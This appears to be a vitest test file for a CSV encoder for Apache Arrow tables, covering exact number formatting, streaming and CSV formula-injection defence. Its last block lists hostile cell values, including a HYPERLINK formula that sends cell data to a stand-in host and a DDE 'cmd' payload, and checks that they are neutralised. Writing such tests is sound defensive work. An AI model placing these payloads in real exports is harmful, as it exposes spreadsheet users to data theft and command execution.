import { readFileSync } from 'node:fs';
import { Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import {
  Bool,
  DateDay,
  DateMillisecond,
  Dictionary,
  Float32,
  Float64,
  Int32,
  makeVector,
  type RecordBatch,
  Table,
  TimestampMillisecond,
  TimestampSecond,
  Utf8,
  vectorFromArray,
  type DataType,
  type Vector,
} from 'apache-arrow';
import { describe, expect, it } from 'vitest';
import { CsvEncoder, csvNumber, csvText, formatIsoDate, writeCsv, writeCsvStream } from '../src/index.js';
import { perUser, tempFile } from './support.js';

/** The CSV text the encoder makes of `batches`, with a tiny chunk size so that cells straddle chunks. */
function encode(batches: RecordBatch[], chunkBytes = 64): string {
  const encoder = new CsvEncoder({ chunkBytes });
  encoder.header(batches[0]!.schema);
  for (const batch of batches) encoder.rows(batch, 0, batch.numRows);
  return Buffer.concat(encoder.out.take()).toString('utf8');
}

/** The same text made the slow, obvious way: `Vector.get` per cell and the cell functions of the rules. */
function oracle(batches: RecordBatch[]): string {
  const schema = batches[0]!.schema;
  const lines = [schema.fields.map((f) => csvText(f.name)).join(',')];
  for (const batch of batches) {
    for (let row = 0; row < batch.numRows; row++) {
      lines.push(
        schema.fields
          .map((field, k) => {
            const value = (batch.getChildAt(k) as Vector).get(row);
            if (value === null) return '';
            const type = field.type as DataType;
            if (type.typeId === new DateDay().typeId) return formatIsoDate(value);
            if (String(type).startsWith('Timestamp')) return new Date(value).toISOString();
            if (typeof value === 'number') return csvNumber(value);
            if (typeof value === 'boolean') return String(value);
            return csvText(value);
          })
          .join(','),
      );
    }
  }
  return lines.join('\n') + '\n';
}

function oneColumn(values: number[]): RecordBatch {
  return new Table({ x: makeVector(Float64Array.from(values)) }).batches[0]!;
}

/** Uniform numbers in [0, 1) from a seeded 32-bit LCG: the same values every run. */
function seededUniform(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (Math.imul(s, 1_103_515_245) + 12_345) >>> 0;
    return s / 2 ** 32;
  };
}

const encodedNumbers = (values: number[]) =>
  encode([oneColumn(values)])
    .split('\n')
    .slice(1, -1);

describe('CSV numbers', { timeout: 120_000 }, () => {
  const awkward = [
    0,
    -0,
    1,
    -1,
    2 ** 53,
    -(2 ** 53),
    2 ** 53 + 2,
    1e21,
    1e-7,
    1e-6,
    1.5e-6,
    999999999999999.9,
    1e15,
    0.1,
    0.2,
    0.3,
    1 / 3,
    -2 / 3,
    123.456,
    5e-324,
    2.2250738585072014e-308,
    2.225073858507201e-308,
    Number.MAX_VALUE,
    -Number.MAX_VALUE,
    Number.EPSILON,
    NaN,
    Infinity,
    -Infinity,
    0.000001,
    0.1 + 0.2,
    4.35,
    100.25,
    Number.parseFloat('9007199254740991.5'),
  ];

  it('writes exactly String(n) (with -0 keeping its sign) for awkward doubles', () => {
    expect(encodedNumbers(awkward)).toEqual(awkward.map((x) => (Object.is(x, -0) ? '-0' : String(x))));
  });

  it('writes exactly String(n) for random doubles, subnormals, integers and short decimals (differential)', () => {
    const shortDecimal = fc
      .tuple(fc.integer({ min: -(10 ** 9), max: 10 ** 9 }), fc.integer({ min: 0, max: 21 }))
      .map(([m, k]) => m / 10 ** k);
    const subnormal = fc.double({ min: -2.2250738585072014e-308, max: 2.2250738585072014e-308 });
    const fromBits = fc
      .tuple(fc.integer({ min: 0, max: 2 ** 32 - 1 }), fc.integer({ min: 0, max: 2 ** 32 - 1 }))
      .map(([lo, hi]) => new Float64Array(new Uint32Array([lo, hi]).buffer)[0]!);
    const float32 = fc.float().map((x) => Math.fround(x));
    const special = fc.constantFrom(NaN, Infinity, -Infinity, 0, -0, Number.MIN_VALUE, -Number.MAX_VALUE);
    // A short decimal's neighbours a few ulps away: where 15, 16 and 17 digits part (the writer decides without
    // a branch per digit count, so each must be reached from both sides).
    const nearShort = fc.tuple(shortDecimal, fc.integer({ min: -3, max: 3 })).map(([x, ulps]) => {
      const bits = new BigInt64Array(new Float64Array([x]).buffer);
      bits[0] = bits[0]! + BigInt(ulps);
      return new Float64Array(bits.buffer)[0]!;
    });
    const value = fc.oneof(
      fc.double(),
      subnormal,
      fc.integer(),
      fc.maxSafeInteger(),
      shortDecimal,
      nearShort,
      fromBits,
      float32,
      special,
    );
    fc.assert(
      fc.property(fc.array(value, { minLength: 1, maxLength: 200 }), (values) => {
        expect(encodedNumbers(values)).toEqual(values.map(csvNumber));
      }),
      { numRuns: 300 },
    );
  });

  it('writes exactly String(n) for 400,000 doubles of every decade the exact path formats (differential)', () => {
    // Random mantissas over 1e-7..1e16 in both signs, with their neighbours one and two ulps away (where a shorter
    // decimal stops reading back), and round decimals of up to 17 digits (ties between two shortest forms).
    const rng = seededUniform(20_261_207);
    const values: number[] = [];
    const bits = new Float64Array(1);
    const words = new Uint32Array(bits.buffer);
    while (values.length < 400_000) {
      const x = (rng() < 0.5 ? -1 : 1) * (1 + rng()) * 10 ** Math.floor(rng() * 24 - 7);
      bits[0] = x;
      values.push(x);
      words[0] += 1;
      values.push(bits[0]!);
      words[0] -= 2;
      values.push(bits[0]!);
      const digits = 1 + Math.floor(rng() * 17);
      values.push(Math.floor(rng() * 10 ** digits) / 10 ** Math.floor(rng() * 23));
    }
    for (let e = -7; e <= 16; e++)
      values.push(10 ** e, 2 ** (e * 3), 10 ** e - 10 ** (e - 16), 10 ** e + 10 ** (e - 16));
    const written = encodedNumbers(values);
    const wrong = values.filter((x, j) => written[j] !== csvNumber(x));
    expect(wrong.map((x) => [csvNumber(x), written[values.indexOf(x)]])).toEqual([]);
  });

  it('writes exactly String(n) for integers of every digit count, at the edges of each (differential)', () => {
    const values: number[] = [];
    for (let digits = 0; digits <= 16; digits++) {
      for (const x of [10 ** digits - 1, 10 ** digits, 10 ** digits + 1, 2 * 10 ** digits, 10 ** digits * 9.5])
        values.push(x, -x);
    }
    values.push(2 ** 31 - 1, 2 ** 31, 2 ** 31 + 1, -(2 ** 31), 2 ** 32, 2 ** 53 - 1, 2 ** 53, 2 ** 53 + 2, 1e21, 1e22);
    expect(encodedNumbers(values)).toEqual(values.map(csvNumber));
  });

  it('reads every number back to the same double', () => {
    fc.assert(
      fc.property(fc.array(fc.double(), { minLength: 1, maxLength: 50 }), (values) => {
        expect(encodedNumbers(values).map(Number)).toEqual(values);
      }),
    );
  });
});

/** Users of the per-user statistics in the writer's differential test. */
const USERS = 6;

describe('CSV writer', { timeout: 120_000 }, () => {
  const text = fc.oneof(
    fc.string({ unit: 'grapheme', maxLength: 12 }),
    fc.constantFrom(
      '=1+1',
      '+cmd',
      '-2+3',
      '@SUM(1)',
      '\tx',
      '\rx',
      ' lead',
      'trail ',
      'a,b',
      'say "hi"',
      'two\nlines',
      'ACC-01',
      'ünï',
      '',
    ),
  );
  const nullable = <T>(arb: fc.Arbitrary<T>) => fc.option(arb, { nil: null, freq: 5 });
  const day = fc.integer({ min: -800_000, max: 3_000_000 });
  const ms = fc.integer({ min: -70_000_000_000_000, max: 260_000_000_000_000 });
  const row = fc.record({
    f: nullable(fc.double()),
    f32: fc.float(),
    i: nullable(fc.integer()),
    s: nullable(text),
    d: nullable(text),
    fd: nullable(fc.double()),
    day: nullable(day),
    date64: nullable(day),
    ts: nullable(ms),
    sec: nullable(fc.integer({ min: -60_000_000_000, max: 250_000_000_000 })),
    b: nullable(fc.boolean()),
    // Columns without nulls, adjacent to others of their kind: written a run of columns at a time.
    g1: fc.double(),
    g2: fc.double(),
    domain: text,
    name: text,
    user: fc.nat({ max: USERS - 1 }),
    t1: ms,
    t2: ms,
  });
  /** Per-user statistics: three dictionaries of USERS entries, indexed alike by each row's `user`. */
  const statistics = fc.array(fc.array(fc.double(), { minLength: USERS, maxLength: USERS }), {
    minLength: 3,
    maxLength: 3,
  });

  function batchOf(
    rows: (typeof row extends fc.Arbitrary<infer R> ? R : never)[],
    statistics: number[][],
  ): RecordBatch {
    const column = <T extends DataType>(type: T, values: unknown[]) => vectorFromArray(values, type);
    const users = Int32Array.from(rows, (r) => r.user);
    const statistic = (values: number[]) => perUser(users, makeVector(Float64Array.from(values)));
    return new Table({
      f: column(
        new Float64(),
        rows.map((r) => r.f),
      ),
      f32: column(
        new Float32(),
        rows.map((r) => r.f32),
      ),
      i: column(
        new Int32(),
        rows.map((r) => r.i),
      ),
      s: column(
        new Utf8(),
        rows.map((r) => r.s),
      ),
      d: column(
        new Dictionary(new Utf8(), new Int32()),
        rows.map((r) => r.d),
      ),
      fd: column(
        new Dictionary(new Float64(), new Int32()),
        rows.map((r) => r.fd),
      ),
      day: column(
        new DateDay(),
        rows.map((r) => (r.day === null ? null : new Date(r.day * 86_400_000))),
      ),
      date64: column(
        new DateMillisecond(),
        rows.map((r) => (r.date64 === null ? null : new Date(r.date64 * 86_400_000))),
      ),
      ts: column(
        new TimestampMillisecond(),
        rows.map((r) => r.ts),
      ),
      sec: column(
        new TimestampSecond(),
        rows.map((r) => (r.sec === null ? null : r.sec * 1000)),
      ),
      b: column(
        new Bool(),
        rows.map((r) => r.b),
      ),
      domain: column(
        new Utf8(),
        rows.map((r) => r.domain),
      ),
      name: column(
        new Utf8(),
        rows.map((r) => r.name),
      ),
      g1: makeVector(Float64Array.from(rows, (r) => r.g1)),
      g2: makeVector(Float64Array.from(rows, (r) => r.g2)),
      mean: statistic(statistics[0]!),
      std: statistic(statistics[1]!),
      count: statistic(statistics[2]!),
      t1: column(
        new TimestampMillisecond(),
        rows.map((r) => r.t1),
      ),
      t2: column(
        new TimestampMillisecond(),
        rows.map((r) => r.t2),
      ),
    }).batches[0]!;
  }

  it('writes every type exactly as the cell rules say, across batches and slices (differential)', () => {
    fc.assert(
      fc.property(fc.array(row, { minLength: 1, maxLength: 40 }), statistics, fc.nat(), (rows, perUserValues, cut) => {
        const batch = batchOf(rows, perUserValues);
        const at = cut % (rows.length + 1);
        const batches = [batch, batch.slice(at), batch.slice(0, at)].filter((b) => b.numRows > 0);
        expect(encode(batches)).toBe(oracle(batches));
      }),
      { numRuns: 150 },
    );
  });

  it('writes repeated days, and days that share a slot of the recent-days cache, as their own dates', () => {
    // Days 64 apart share a slot: each write must take its own day's text, not the slot's last one.
    const days = Array.from({ length: 3000 }, (_, i) => 19_000 + ((i * 7) % 40) + 64 * (i % 3) - 64 * ((i >> 4) % 2));
    const batch = new Table({
      day: makeVector({ type: new DateDay(), data: Int32Array.from(days) }),
    }).batches[0]!;
    expect(encode([batch], 4096)).toBe(['day', ...days.map((d) => formatIsoDate(d * 86_400_000))].join('\n') + '\n');
  });

  it('writes CSV that csv-parse reads back to the same text', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(text, fc.double()), { minLength: 1, maxLength: 30 }), (rows) => {
        const batch = new Table({
          name: vectorFromArray(
            rows.map((r) => r[0]),
            new Utf8(),
          ),
          x: makeVector(Float64Array.from(rows.map((r) => r[1]))),
        }).batches[0]!;
        const parsed = parse(encode([batch]), { columns: true }) as { name: string; x: string }[];
        expect(parsed.map((r) => r.name)).toEqual(
          rows.map(([name]) => (/^[=+\-@\t\r]/.test(name) ? `'${name}` : name)),
        );
        expect(parsed.map((r) => Number(r.x))).toEqual(rows.map((r) => r[1]));
      }),
    );
  });

  it('streams into a sink it is given, in large writes, and counts rows', async () => {
    const chunks: Buffer[] = [];
    const sink = new Writable({
      write(chunk: Buffer, _encoding, done) {
        chunks.push(chunk);
        done();
      },
    });
    const values = Float64Array.from({ length: 200_000 }, (_, i) => i / 7);
    const table = new Table({ x: makeVector(values) });
    expect(await writeCsvStream(sink, table)).toBe(200_000);
    const lines = Buffer.concat(chunks).toString('utf8').split('\n');
    expect(lines[0]).toBe('x');
    expect(lines.length).toBe(200_002);
    expect(lines[123_456]).toBe(String(123_455 / 7));
    expect(chunks.length).toBeLessThan(10);
  });

  it('rejects when the sink fails', async () => {
    const sink = new Writable({
      write(_chunk, _encoding, done) {
        done(new Error('disk full'));
      },
    });
    sink.on('error', () => {});
    await expect(writeCsvStream(sink, new Table({ x: makeVector(new Float64Array(10)) }))).rejects.toThrow('disk full');
  });

  it('writes the header of an empty table', async () => {
    const file = tempFile('empty.csv', '');
    const table = new Table({ a: makeVector(new Float64Array(0)), b: vectorFromArray([], new Utf8()) });
    expect(await writeCsv(file, table)).toBe(0);
    expect(readFileSync(file, 'utf8')).toBe('a,b\n');
  });
});

describe('CSV formula injection', { timeout: 120_000 }, () => {
  const hostile = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    '@SUM(1+1)',
    '-2+3',
    '\t=1+1',
    '\r=1+1',
  ];

  it('neutralises text that a spreadsheet would take for a formula (OWASP: a leading quote, and quoted)', () => {
    expect(csvText('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    expect(csvText("+cmd|' /C calc'!A0")).toBe(`"'+cmd|' /C calc'!A0"`);
    expect(csvText('@SUM(1+1)')).toBe(`"'@SUM(1+1)"`);
    expect(csvText('-2+3')).toBe(`"'-2+3"`);
    expect(csvText('\tx')).toBe(`"'\tx"`);
    expect(csvText('\rx')).toBe(`"'\rx"`);
    expect(csvText('ACC-01')).toBe('ACC-01');
    expect(csvText("O'Brien")).toBe("O'Brien");
  });

  it('writes hostile user names inert in plain and dictionary columns and in the header, never numbers', async () => {
    const file = tempFile('hostile.csv', '');
    const table = new Table({
      DstUser: vectorFromArray(hostile, new Utf8()),
      DstDomain: vectorFromArray(hostile, new Dictionary(new Utf8(), new Int32())),
      '=cmd': makeVector(Float64Array.from(hostile, (_, i) => -1 - i)),
    });
    await writeCsv(file, table);
    const records = parse(readFileSync(file, 'utf8')) as string[][];
    expect(records[0]).toEqual(['DstUser', 'DstDomain', "'=cmd"]);
    records.slice(1).forEach((record, i) => {
      expect(record).toEqual([`'${hostile[i]}`, `'${hostile[i]}`, String(-1 - i)]);
    });
    for (const record of records.slice(1)) {
      for (const cell of record.slice(0, 2)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});
